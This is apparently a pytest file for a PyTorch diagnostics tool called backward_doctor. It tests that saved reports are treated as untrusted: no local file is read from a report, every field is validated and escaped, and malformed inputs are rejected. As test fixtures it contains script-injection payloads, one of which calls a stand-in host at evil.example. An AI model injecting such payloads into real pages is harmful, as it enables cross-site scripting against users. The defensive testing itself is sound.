"""A saved report is untrusted input (issue 27, items 1-3): ``render`` and ``combine`` read nothing but the
report (no file it names), every field is validated on load (one line, exit 2) and escaped on output, and
crafted input (a FIFO, ``/dev/zero``, deep nesting, wrong types, huge rank numbers, huge files) ends in
that one line quickly, never a traceback, a hang or an exhausted memory.
"""
from __future__ import annotations

import copy
import json
import os
import subprocess
import sys
import textwrap

import pytest

import backward_doctor as bd
from backward_doctor.analysis.findings import Finding
from backward_doctor.frontends.cli import main
from backward_doctor.frontends.combine import combine_folder
from backward_doctor.report.combined import CombinedReport, load_report
from backward_doctor.report.renderers import renderer
from backward_doctor.report.schema import ReportError
from backward_doctor.trace.distributed import RankRecord

SECRET = "TOP-SECRET-0xC0FFEE"


@pytest.fixture()
def secret_file(tmp_path):
    path = tmp_path / "secret.py"
    path.write_text("\n".join(f"password_{i} = '{SECRET}'" for i in range(1, 40)) + "\n", encoding="utf-8")
    return str(path)


def _everything(report) -> str:
    return "\n".join(renderer(name).render(report) for name in ("text", "html", "page", "json"))


def _cli(*argv: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "backward_doctor", *argv], capture_output=True, text=True,
                          timeout=timeout)


# --------------------------------------------------------------------------- 1. no local file read
def _module_step(tmp_path, engine):
    """A step whose NaN is made in a module file of the user's (a place outside the cell)."""
    mod = tmp_path / "mymodel_i27.py"
    mod.write_text(textwrap.dedent("""\
        import torch

        class Net(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.lin = torch.nn.Linear(4, 4)

            def forward(self, x):
                h = self.lin(x)
                return torch.log(h - 100.0)   # NaN: the line the report must show
        """), encoding="utf-8")
    sys.path.insert(0, str(tmp_path))
    try:
        import importlib

        m = importlib.import_module("mymodel_i27")
        torch = m.torch
        torch.manual_seed(0)
        ns = {"net": m.Net(), "torch": torch, "x": torch.randn(2, 4)}
        report = bd.diagnose("loss = net(x).sum()\nloss.backward()\n", ns, engine=engine)
    finally:
        sys.path.remove(str(tmp_path))
        sys.modules.pop("mymodel_i27", None)
    return report, mod


def test_source_around_a_place_is_stored_at_record_time(tmp_path, engine):
    report, mod = _module_step(tmp_path, engine)
    f = report.findings[0]
    assert f.kind == "nonfinite" and f.file == str(mod) and f.line == 10, report
    saved = json.loads(json.dumps(report.to_dict()))
    mod.unlink()  # the renderer's machine has no such file: the lines come from the report itself
    import linecache

    linecache.checkcache()
    again = bd.Report.from_dict(saved)
    text = str(again)
    assert "return torch.log(h - 100.0)" in text
    assert "return torch.log(h - 100.0)" in again.to_html()
    assert any(e.file == str(mod) for e in again.trace.excerpts)


def test_render_never_reads_a_file_the_report_names(tmp_path, secret_file, engine, capsys):
    report, _ = _module_step(tmp_path, engine)
    data = report.to_dict()
    # Every place a report can name, pointed at a file of the renderer's machine.
    for f in data["findings"]:
        f["file"], f["line"] = secret_file, 5
    for op in data["trace"]["ops"]:
        op["where"]["file"], op["where"]["line"] = secret_file, 7
    data["trace"]["threads"] = [{"name": "MainThread", "ident": 1, "is_main": True, "frames": [
        {"file": secret_file, "line": 9, "function": "f", "user": True}]}]
    data["trace"]["excerpts"] = [e for e in data["trace"]["excerpts"] if e["file"] != secret_file]
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    for kind in ("text", "html", "page", "json"):
        assert main(["render", str(path), "--as", kind]) == 0
        assert SECRET not in capsys.readouterr().out, kind
    assert SECRET not in _everything(bd.Report.from_dict(data))


def test_combine_reads_no_file_a_rank_names(tmp_path, secret_file):
    folder = tmp_path / "ranks"
    folder.mkdir()
    rec = RankRecord(rank=0, world_size=1, script=secret_file, wrote_report=True)
    rec.trace = bd.Report().trace
    (folder / "rank0.json").write_text(json.dumps(rec.to_dict()), encoding="utf-8")
    (folder / "rank0.fault").write_text(f'Thread 0x01 (most recent call first):\n  File "{secret_file}", line 3 '
                                        'in f\n', encoding="utf-8")
    report = combine_folder(str(folder))
    report.findings.append(Finding("hang", "m", line=4, file=secret_file, rank=0))
    assert SECRET not in _everything(report)
    assert report.ranks[0].stacks and report.ranks[0].stacks[0].frames[0].code == ""


# --------------------------------------------------------------------------- 2. no script in the page
def test_a_string_where_a_number_belongs_is_refused_and_nothing_unescaped(tmp_path):
    good = CombinedReport(ranks=[RankRecord(0, 1, exitcode=0)], nproc=1).to_dict()
    bad = copy.deepcopy(good)
    bad["ranks"][0]["rank"] = "<script>fetch('http://evil.example/x')</script>"
    with pytest.raises(ReportError, match=r"^ranks\[0\]\.rank: .* is not an integer$"):
        load_report(bad)
    path = tmp_path / "evil.json"
    path.write_text(json.dumps(bad), encoding="utf-8")
    out = _cli("render", str(path), "--html", str(tmp_path / "page.html"))
    assert out.returncode == 2 and not (tmp_path / "page.html").exists()
    assert out.stderr.strip().splitlines()[-1].endswith("ranks[0].rank: \"<script>fetch('http://evil.example/x')...\" "
                                                        "is not an integer") or "is not an integer" in out.stderr
    assert "Traceback" not in out.stderr
    # The renderers escape every value they write, numbers included (a report built in Python is not checked).
    page = renderer("page").render(CombinedReport(ranks=[RankRecord("<b>x</b>", 1)], nproc=1))  # type: ignore[arg-type]
    assert "<b>x</b>" not in page and "&lt;b&gt;x&lt;/b&gt;" in page


# --------------------------------------------------------------------------- 3. crafted input
def _exit_2_in_one_line(out: subprocess.CompletedProcess, fragment: str) -> None:
    assert out.returncode == 2, (out.returncode, out.stdout[-500:], out.stderr[-2000:])
    assert "Traceback" not in out.stderr, out.stderr[-2000:]
    assert fragment in out.stderr, out.stderr[-2000:]


def test_a_fifo_and_a_device_are_refused_at_once(tmp_path):
    fifo = tmp_path / "report.json"
    os.mkfifo(fifo)
    _exit_2_in_one_line(_cli("render", str(fifo), timeout=60), "not a regular file (a FIFO)")
    _exit_2_in_one_line(_cli("render", "/dev/zero", timeout=60), "not a regular file (a character device)")


def test_a_huge_file_is_refused_before_it_is_read(tmp_path):
    big = tmp_path / "big.json"
    with open(big, "wb") as fh:  # sparse: no disk used
        fh.truncate(600 * 1024 * 1024)
    _exit_2_in_one_line(_cli("render", str(big), timeout=60), "more than the")


@pytest.mark.parametrize("text, fragment", [
    ("[" * 200000 + "]" * 200000, "nested too deeply"),
    ('{"findings": [{"kind": "oom", "message": "m", "evidence": ' + '{"a": ' * 60 + "1" + "}" * 61 + "]}",
     "nested more than"),
    ('{"findings": [{"kind": "oom", "message": NaN}]}', "NaN is not JSON"),
    ('{"version": 99}', "written by a newer backward_doctor"),
    ('{"format": "something.else"}', "not a backward_doctor report"),
    ('{"findings": {"0": 1}}', "findings: an object is not a list"),
    ('{"trace": {"ops": [{"index": 0}]}}', "trace.ops[0]: the required field 'op' is missing"),
    ('{"findings": [{"kind": "oom", "message": "x", "line": "7"}]}', 'findings[0].line: "7" is not an integer'),
    ('{"findings": [{"kind": "<img src=x>", "message": "x"}]}', "findings[0].kind: "),
    ('{"trace": {"source": 5}}', "trace.source: 5 is not a string"),
])
def test_bad_reports_fail_with_one_line_naming_the_field(tmp_path, capsys, text, fragment):
    path = tmp_path / "r.json"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(SystemExit) as exc:
        main(["render", str(path)])
    assert exc.value.code == 2
    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if "error:" in line]
    assert len(errors) == 1 and fragment in errors[0] and "Traceback" not in err, err  # (argparse's usage above it)


def _leaves(obj, path=()):
    if isinstance(obj, dict) and obj:
        for k, v in obj.items():
            yield from _leaves(v, path + (k,))
    elif isinstance(obj, list) and obj:
        yield from _leaves(obj[0], path + (0,))
        yield path, obj
    else:
        yield path, obj


def _set(data, path, value):
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


_HOSTILE = ["<script>alert(1)</script>", -1, 10**30, 1.5e308, None, [[[]]], {"a": {"b": "c"}}, True]


def _rich_report():
    """A report with most fields filled: a loop, an exception, a fix's original run, stacks."""
    import torch

    torch.manual_seed(0)
    m = torch.nn.Linear(4, 2)
    ns = {"torch": torch, "m": m, "opt": torch.optim.SGD(m.parameters(), lr=0.1), "x": torch.randn(3, 4)}
    src = ("for i in range(3):\n    opt.zero_grad()\n    loss = m(x).sum()\n    loss.backward()\n    opt.step()\n"
           "y = torch.log(m(x) - 10).sum()\ny.backward()\nz = x[10]\n")
    return bd.diagnose(src, ns, engine="python", timeout=60)


def test_fuzzing_every_field_never_crashes_the_renderers():
    """Every field of a real report, set to each hostile value: loading either refuses it in one line or
    gives a report every renderer draws (the attack that found 164 distinct crashes)."""
    base = json.loads(json.dumps(_rich_report().to_dict()))
    ranks = json.loads(json.dumps(CombinedReport(ranks=[RankRecord(0, 2, exitcode=1, trace=bd.Report().trace)],
                                                 nproc=2, findings=[]).to_dict()))
    crashes = {}
    for doc in (base, ranks):
        for path, _ in list(_leaves(doc)):
            for value in _HOSTILE:
                data = copy.deepcopy(doc)
                _set(data, path, value)
                try:
                    report = load_report(data)
                except ReportError as e:
                    assert "\n" not in str(e)
                    continue
                try:
                    _everything(report)
                except Exception as e:  # noqa: BLE001 - collected, reported together
                    crashes.setdefault(f"{type(e).__name__}: {str(e)[:80]}", ".".join(map(str, path)) + f"={value!r}")
    assert not crashes, "\n".join(f"{k}  (e.g. {v})" for k, v in crashes.items())


def test_combine_with_a_huge_rank_number_fails_in_one_line(tmp_path):
    folder = tmp_path / "ranks"
    folder.mkdir()
    (folder / "rank0.json").write_text(json.dumps(RankRecord(0, 2, wrote_report=True).to_dict()), encoding="utf-8")
    (folder / "rank99999999.json").write_text("{}", encoding="utf-8")
    out = _cli("combine", str(folder), timeout=120)
    _exit_2_in_one_line(out, "rank99999999.json")


def test_combine_refuses_a_rank_file_of_the_wrong_shape(tmp_path):
    folder = tmp_path / "ranks"
    folder.mkdir()
    (folder / "rank0.json").write_text(json.dumps({"rank": 0, "world_size": "two"}), encoding="utf-8")
    _exit_2_in_one_line(_cli("combine", str(folder), timeout=120), "rank0.json: world_size: \"two\" is not an integer")
    os.remove(folder / "rank0.json")
    os.mkfifo(folder / "rank0.fault")
    (folder / "rank0.log").write_text('{"start": {"index": "x", "op": 3}}\n', encoding="utf-8")
    _exit_2_in_one_line(_cli("combine", str(folder), timeout=120), "rank0.fault is not a regular file")
